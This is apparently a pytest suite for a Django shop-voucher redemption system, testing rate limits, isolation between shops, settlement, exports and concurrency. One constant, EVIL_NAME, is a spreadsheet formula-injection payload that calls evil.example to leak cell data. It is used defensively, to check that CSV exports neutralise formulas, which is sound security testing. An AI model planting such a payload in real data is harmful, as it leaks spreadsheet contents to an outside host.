"""Shops: redemption pages and API, isolation between shops, rate limits, monthly
settlement, spreadsheet onboarding, and exactly-once redemption under concurrency."""

import csv
import datetime as dt
import io
import uuid
from unittest import mock

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.utils import timezone

from points import codes
from points.exceptions import MonthNotOver, VoucherAlreadyRedeemed
from points.models import SettlementStatement, Shop, ShopMembership, Voucher
from points.selectors import audit_ledger, voucher_code
from points.services.accounts import shop_accounts, wallet_for
from points.services.settlement import statement_generate, statement_mark_paid
from points.services.vouchers import voucher_exchange, voucher_redeem
from points.throttle import FAILURE_LIMIT
from tests.factories import UserFactory
from tests.points.support import fund, run_concurrently
from tests.points.test_interfaces import signed_in_back_office

pytestmark = pytest.mark.django_db

CONFIRM = "/shop/redeem/confirm/"


def make_shop(name: str) -> tuple[Shop, object]:
    shop = Shop.objects.create(name=name, address=f"{name} 1-1")
    clerk = UserFactory(roles=["shop_staff"])
    ShopMembership.objects.create(user=clerk, shop=shop)
    return shop, clerk


@pytest.fixture
def vouchers(volunteer):
    fund(wallet_for(volunteer), 5000)
    return voucher_exchange(user=volunteer, count=4, idempotency_key="ex")[1]


# --- Pages --------------------------------------------------------------------------


def test_scan_lands_on_confirmation_then_redeems(client, vouchers):
    shop, clerk = make_shop("さくら青果店")
    client.force_login(clerk)
    code = voucher_code(vouchers[0])
    page = client.get(f"/shop/redeem/{code}/")
    assert page.status_code == 200 and "500円" in page.content.decode()
    assert Voucher.objects.get(pk=vouchers[0].pk).status == Voucher.Status.ISSUED
    done = client.post(CONFIRM, {"code": code, "shop": shop.pk})
    assert "商品券を受け付けました" in done.content.decode()
    assert Voucher.objects.get(pk=vouchers[0].pk).shop == shop
    again = client.post(CONFIRM, {"code": code, "shop": shop.pk}).content.decode()
    assert "この商品券はすでに使用されています。" in again and shop.name in again


def test_typed_code_page_separates_typo_from_unknown(client, vouchers):
    _shop, clerk = make_shop("喫茶こもれび")
    client.force_login(clerk)
    code = voucher_code(vouchers[0])
    typo = code[:-1] + ("Z" if code[-1] != "Z" else "Y")
    mistyped = client.post("/shop/redeem/", {"code": typo}).content.decode()
    assert "入力の誤り" in mistyped
    unknown = client.post("/shop/redeem/", {"code": codes.display(codes.generate())})
    assert "該当する商品券がありません" in unknown.content.decode()
    found = client.post("/shop/redeem/", {"code": code.lower().replace("-", " ")})
    # The confirmation is shown in answer to the POST: the code stays out of the URL.
    assert found.status_code == 200 and not found.has_header("Location")
    assert f'name="code" value="{code}"' in found.content.decode()


def test_failed_lookups_are_rate_limited_per_user(client, vouchers):
    _shop, clerk = make_shop("みどり薬局")
    client.force_login(clerk)
    for _ in range(FAILURE_LIMIT):
        assert (
            client.post("/shop/redeem/", {"code": codes.display(codes.generate())}).status_code
            == 200
        )
    response = client.post("/shop/redeem/", {"code": voucher_code(vouchers[0])})
    assert response.status_code == 429
    assert Voucher.objects.get(pk=vouchers[0].pk).status == Voucher.Status.ISSUED


def test_failed_lookups_are_rate_limited_per_address(vouchers):
    from django.test import Client

    for _ in range(FAILURE_LIMIT):
        _shop, clerk = make_shop(f"店{uuid.uuid4().hex[:6]}")
        client = Client(REMOTE_ADDR="203.0.113.9")
        client.force_login(clerk)
        client.post("/shop/redeem/", {"code": codes.display(codes.generate())})
    _shop, fresh = make_shop("新しい店")
    client = Client(REMOTE_ADDR="203.0.113.9")
    client.force_login(fresh)
    assert client.post("/shop/redeem/", {"code": voucher_code(vouchers[0])}).status_code == 429


def test_confirmation_posts_and_the_api_share_the_guessing_limit(client, vouchers):
    """Every path that looks a code up counts failures and is refused once blocked:
    the confirmation page's POST (which redeems) as well as the lookup and the API."""
    shop, clerk = make_shop("はなみずき書店")
    client.force_login(clerk)
    for _ in range(FAILURE_LIMIT):
        guess = codes.display(codes.generate())
        assert client.post(CONFIRM, {"code": guess, "shop": shop.pk}).status_code == 200
    unknown = client.post(CONFIRM, {"code": codes.display(codes.generate()), "shop": shop.pk})
    assert unknown.status_code == 429
    assert "一致しないコードの入力が続いたため" in unknown.content.decode()
    real = voucher_code(vouchers[0])
    assert client.post(CONFIRM, {"code": real, "shop": shop.pk}).status_code == 429
    api = client.post(
        "/api/v1/shop/redemptions/",
        {"code": real, "shop": shop.pk},
        content_type="application/json",
    )
    assert api.status_code == 429 and api.json()["code"] == "too_many_attempts"
    assert Voucher.objects.get(pk=vouchers[0].pk).status == Voucher.Status.ISSUED
    assert not Voucher.objects.filter(status=Voucher.Status.REDEEMED).exists()


def test_failed_confirmation_posts_are_limited_per_address(vouchers):
    from django.test import Client

    for _ in range(FAILURE_LIMIT):
        shop, clerk = make_shop(f"店{uuid.uuid4().hex[:6]}")
        client = Client(REMOTE_ADDR="203.0.113.10")
        client.force_login(clerk)
        client.post(CONFIRM, {"code": codes.display(codes.generate()), "shop": shop.pk})
    shop, fresh = make_shop("別の新しい店")
    client = Client(REMOTE_ADDR="203.0.113.10")
    client.force_login(fresh)
    response = client.post(CONFIRM, {"code": voucher_code(vouchers[0]), "shop": shop.pk})
    assert response.status_code == 429
    assert Voucher.objects.get(pk=vouchers[0].pk).status == Voucher.Status.ISSUED


def test_non_shop_users_are_refused(client, volunteer):
    client.force_login(volunteer)
    assert client.get("/shop/redeem/").status_code == 403
    assert client.get("/shop/statements/").status_code == 403


def test_a_shop_sees_only_its_own_redemptions_and_statements(client, vouchers):
    shop_a, clerk_a = make_shop("A商店")
    shop_b, clerk_b = make_shop("B商店")
    voucher_redeem(typed_code=voucher_code(vouchers[0]), shop=shop_a, staff=clerk_a)
    voucher_redeem(typed_code=voucher_code(vouchers[1]), shop=shop_b, staff=clerk_b)
    statement_a = SettlementStatement.objects.create(shop=shop_a, month=dt.date(2026, 1, 1))
    statement_b = SettlementStatement.objects.create(shop=shop_b, month=dt.date(2026, 1, 1))

    client.force_login(clerk_a)
    history = client.get("/shop/history/").content.decode()
    assert "A商店" in history and "B商店" not in history
    assert client.get(f"/shop/statements/{statement_b.pk}/").status_code == 404
    assert client.get(f"/shop/statements/{statement_b.pk}/csv/").status_code == 404
    assert client.get(f"/shop/statements/{statement_a.pk}/").status_code == 200
    api = client.get("/api/v1/shop/statements/").json()["results"]
    assert [s["id"] for s in api] == [statement_a.pk]
    refused = client.post(
        "/api/v1/shop/redemptions/",
        {"code": voucher_code(vouchers[2]), "shop": shop_b.pk},
        content_type="application/json",
    )
    assert refused.status_code == 403 and refused.json()["code"] == "wrong_shop"


# --- API ----------------------------------------------------------------------------


def test_api_exchange_list_and_redeem_share_the_rules(client, volunteer):
    fund(wallet_for(volunteer), 1200)
    client.force_login(volunteer)
    request_id = str(uuid.uuid4())
    created = client.post(
        "/api/v1/vouchers/exchange/",
        {"count": 2, "request_id": request_id},
        content_type="application/json",
    )
    assert created.status_code == 201
    body = created.json()
    replay = client.post(
        "/api/v1/vouchers/exchange/",
        {"count": 2, "request_id": request_id},
        content_type="application/json",
    ).json()
    assert replay == body and len(body["vouchers"]) == 2
    short = client.post(
        "/api/v1/vouchers/exchange/",
        {"count": 1, "request_id": str(uuid.uuid4())},
        content_type="application/json",
    )
    assert short.status_code == 422 and short.json()["code"] == "insufficient_points"
    bad = client.post("/api/v1/vouchers/exchange/", {"count": "x"}, content_type="application/json")
    assert bad.status_code == 400 and set(bad.json()["fields"]) == {"count", "request_id"}
    listed = client.get("/api/v1/vouchers/").json()["results"]
    assert {v["code"] for v in listed} == {v["code"] for v in body["vouchers"]}

    shop, clerk = make_shop("旭ベーカリー")
    client.force_login(clerk)
    code = body["vouchers"][0]["code"]
    url = "/api/v1/shop/redemptions/"
    ok = client.post(url, {"code": code.lower(), "shop": shop.pk}, content_type="application/json")
    assert ok.status_code == 201 and ok.json()["shop"] == shop.name
    again = client.post(url, {"code": code, "shop": shop.pk}, content_type="application/json")
    assert again.status_code == 409 and again.json()["code"] == "voucher_already_redeemed"
    typo = code[:-1] + ("Z" if code[-1] != "Z" else "Y")
    mistyped = client.post(url, {"code": typo, "shop": shop.pk}, content_type="application/json")
    assert mistyped.status_code == 400 and mistyped.json()["code"] == "voucher_mistyped"
    assert mistyped.json()["fields"] == {"code": [mistyped.json()["detail"]]}


# --- Settlement ---------------------------------------------------------------------


def redeem_at(voucher, shop, clerk, moment):
    with mock.patch("django.utils.timezone.now", return_value=moment):
        return voucher_redeem(typed_code=voucher_code(voucher), shop=shop, staff=clerk)


def test_month_boundary_redemption_lands_in_exactly_one_statement(vouchers):
    shop, clerk = make_shop("境界商店")
    tokyo = timezone.get_default_timezone()
    last_moment = dt.datetime(2026, 10, 31, 23, 59, 59, 999000, tzinfo=tokyo)
    first_moment = dt.datetime(2026, 11, 1, 0, 0, 0, tzinfo=tokyo)
    for voucher in vouchers:  # keep them valid at the past dates used here
        Voucher.objects.filter(pk=voucher.pk).update(expires_on=dt.date(2027, 1, 1))
    redeem_at(vouchers[0], shop, clerk, last_moment)
    redeem_at(vouchers[1], shop, clerk, first_moment)
    redeem_at(vouchers[2], shop, clerk, dt.datetime(2026, 10, 1, 0, 0, tzinfo=tokyo))

    with mock.patch(
        "django.utils.timezone.now", return_value=dt.datetime(2026, 12, 2, tzinfo=tokyo)
    ):
        october = statement_generate(shop=shop, month=dt.date(2026, 10, 20))
        november = statement_generate(shop=shop, month=dt.date(2026, 11, 1))
        again = statement_generate(shop=shop, month=dt.date(2026, 10, 1))
        with pytest.raises(MonthNotOver):
            statement_generate(shop=shop, month=dt.date(2026, 12, 1))
    assert (october.voucher_count, november.voucher_count) == (2, 1)
    assert again.pk == october.pk and again.total_yen == 1000
    assert SettlementStatement.objects.count() == 2


def test_marking_paid_moves_receivable_to_settled_once(vouchers):
    shop, clerk = make_shop("支払商店")
    city = UserFactory(roles=["city_staff"])
    tokyo = timezone.get_default_timezone()
    Voucher.objects.update(expires_on=dt.date(2027, 1, 1))
    redeem_at(vouchers[0], shop, clerk, dt.datetime(2026, 9, 10, 12, tzinfo=tokyo))
    statement = statement_generate(shop=shop, month=dt.date(2026, 9, 1))
    paid = statement_mark_paid(statement=statement, actor=city)
    assert paid.status == SettlementStatement.Status.PAID and paid.payment is not None
    statement_mark_paid(statement=statement, actor=city)
    receivable, settled = shop_accounts(shop)
    receivable.refresh_from_db()
    settled.refresh_from_db()
    assert (receivable.balance, settled.balance) == (0, 500)
    # A paid statement no longer changes, even if regenerated.
    redeem_at(vouchers[1], shop, clerk, dt.datetime(2026, 9, 20, 12, tzinfo=tokyo))
    assert statement_generate(shop=shop, month=dt.date(2026, 9, 1)).voucher_count == 1
    assert audit_ledger().ok


def test_statement_export_for_the_payment_run_reads_as_the_screen(client, vouchers):
    """The back office's statements CSV: status as its label, the payment time in
    Tokyo time, and a shop name that would run as a formula neutralised."""
    shop, clerk = make_shop("=HYPERLINK(1)")
    city = UserFactory(roles=["city_staff"])
    tokyo = timezone.get_default_timezone()
    Voucher.objects.update(expires_on=dt.date(2027, 1, 1))
    redeem_at(vouchers[0], shop, clerk, dt.datetime(2026, 9, 10, 12, tzinfo=tokyo))
    statement = statement_generate(shop=shop, month=dt.date(2026, 9, 1))
    statement_mark_paid(statement=statement, actor=city)
    SettlementStatement.objects.filter(pk=statement.pk).update(
        paid_at=dt.datetime(2026, 10, 1, 0, 30, tzinfo=tokyo)
    )
    signed_in_back_office(client, city)
    response = client.get("/admin/points/statements/?export=csv")
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    headings, *rows = csv.reader(io.StringIO(text))
    assert headings[-1] == "支払日"  # "paid on", not the status "paid" (支払済み)
    (row,) = rows
    assert row[0] == "'=HYPERLINK(1)"
    assert row[-2:] == ["支払済み", "2026年10月1日(木) 00:30"]


def test_statement_page_and_exports(client, vouchers):
    shop, clerk = make_shop("出力商店")
    tokyo = timezone.get_default_timezone()
    Voucher.objects.update(expires_on=dt.date(2027, 1, 1))
    redeem_at(vouchers[0], shop, clerk, dt.datetime(2026, 8, 31, 23, 0, tzinfo=tokyo))
    statement = statement_generate(shop=shop, month=dt.date(2026, 8, 1))
    client.force_login(clerk)
    html = client.get(f"/shop/statements/{statement.pk}/").content.decode()
    assert "2026年8月" in html and "500円" in html
    rows = list(
        csv.reader(
            io.StringIO(
                client.get(f"/shop/statements/{statement.pk}/csv/").content.decode("utf-8-sig")
            )
        )
    )
    assert len(rows) == 3 and rows[1][0] == "2026年8月31日(月) 23:00" and rows[-1][3] == "500"
    book = openpyxl.load_workbook(
        io.BytesIO(client.get(f"/shop/statements/{statement.pk}/xlsx/").content)
    )
    assert book.active.max_row == 3
    assert client.get(f"/shop/statements/{statement.pk}/exe/").status_code == 404


EVIL_NAME = '=HYPERLINK("https://evil.example/?leak="&A1,"詳細")'


def statement_rows(client, statement, language: str) -> list[list[str]]:
    client.cookies["django_language"] = language
    response = client.get(f"/shop/statements/{statement.pk}/csv/")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_statement_csv_neutralises_formulas_in_typed_names(client, vouchers):
    shop, clerk = make_shop("数式商店")
    clerk.full_name = EVIL_NAME
    clerk.save(update_fields=["full_name"])
    tokyo = timezone.get_default_timezone()
    Voucher.objects.update(expires_on=dt.date(2027, 1, 1))
    redeem_at(vouchers[0], shop, clerk, dt.datetime(2026, 7, 10, 12, tzinfo=tokyo))
    statement = statement_generate(shop=shop, month=dt.date(2026, 7, 1))
    client.force_login(clerk)
    rows = statement_rows(client, statement, "ja")
    assert rows[1][4] == "'" + EVIL_NAME
    assert rows[1][2:4] == ["500", "500"]
    book = openpyxl.load_workbook(
        io.BytesIO(client.get(f"/shop/statements/{statement.pk}/xlsx/").content)
    )
    cell = book.active.cell(row=2, column=5)
    assert (cell.value, cell.data_type) == (EVIL_NAME, "s")


def test_statement_csv_headings_follow_the_request_language(client, vouchers):
    shop, clerk = make_shop("言語商店")
    tokyo = timezone.get_default_timezone()
    Voucher.objects.update(expires_on=dt.date(2027, 1, 1))
    redeem_at(vouchers[0], shop, clerk, dt.datetime(2026, 7, 10, 12, tzinfo=tokyo))
    statement = statement_generate(shop=shop, month=dt.date(2026, 7, 1))
    client.force_login(clerk)
    english = ["Used at", "Voucher", "Points", "Amount (yen)", "Accepted by"]
    japanese = ["使用日時", "商品券", "ポイント", "金額（円）", "受付者"]
    assert statement_rows(client, statement, "en")[0] == english
    assert statement_rows(client, statement, "ja")[0] == japanese
    assert statement_rows(client, statement, "en")[0] == english


# --- Onboarding ---------------------------------------------------------------------


def test_shop_import_previews_row_errors_and_imports_only_when_clean(client):
    city = UserFactory(roles=["city_staff"])
    signed_in_back_office(client, city)
    bad = (
        "name,name_kana,address,district,category,phone,active\n"
        "さくら青果店,サクラセイカテン,中央1-2-3,,grocery,03-1234-5678,1\n"
        "名無し,,,,grocery,12345,1\n"
    )
    response = client.post(
        "/admin/points/shops/import/",
        {"file": SimpleUploadedFile("shops.csv", bad.encode()), "confirm": "on"},
    )
    html = response.content.decode()
    assert response.status_code == 200 and "3" in html and "address" in html
    assert Shop.objects.count() == 0

    good = bad.splitlines()[0] + "\n" + bad.splitlines()[1] + "\n"
    preview = client.post(
        "/admin/points/shops/import/", {"file": SimpleUploadedFile("s.csv", good.encode())}
    )
    assert preview.status_code == 200 and Shop.objects.count() == 0
    done = client.post(
        "/admin/points/shops/import/",
        {"file": SimpleUploadedFile("s.csv", good.encode()), "confirm": "on"},
    )
    assert done.status_code == 302
    assert Shop.objects.get().phone.as_e164 == "+81312345678"


# --- Concurrency (PostgreSQL) -------------------------------------------------------


@pytest.mark.django_db(transaction=True)
def test_twenty_shops_redeem_one_voucher_concurrently(postgres, reference_data, volunteer):
    fund(wallet_for(volunteer), 500)
    (voucher,) = voucher_exchange(user=volunteer, count=1, idempotency_key="race")[1]
    code = voucher_code(voucher)
    shops = [make_shop(f"競争{i}") for i in range(20)]
    outcomes = run_concurrently(
        [lambda s=s, c=c: voucher_redeem(typed_code=code, shop=s, staff=c) for s, c in shops],
        threads=20,
    )
    winners = [o for o in outcomes if isinstance(o, Voucher)]
    losers = [o for o in outcomes if isinstance(o, VoucherAlreadyRedeemed)]
    assert (len(winners), len(losers)) == (1, 19), outcomes
    voucher.refresh_from_db()
    assert voucher.status == Voucher.Status.REDEEMED and voucher.shop == winners[0].shop
    call_command("points_audit")
